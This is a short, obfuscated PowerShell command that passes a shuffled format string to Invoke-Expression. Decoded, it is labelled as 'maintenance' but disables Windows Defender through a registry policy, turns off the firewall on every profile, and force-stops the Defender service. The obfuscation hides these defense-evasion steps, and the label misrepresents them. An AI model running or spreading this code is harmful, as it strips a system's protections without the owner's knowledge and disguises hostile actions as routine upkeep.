iex ("{0}{3}{5}{2}{1}{4}{7}{6}" -f '# maintenance 6982 v4
New-ItemProperty -Path ''HKLM:\SOFTWARE','ue 1 -PropertyType DWORD -Force
Set-NetFirewallProfile -Profile D','Val','\Policies\Microsoft\Windows De','omain,Public,Private','fender'' -Name DisableAntiSpyware -','se
Stop-Service -Name WinDefend -Force
',' -Enabled Fal')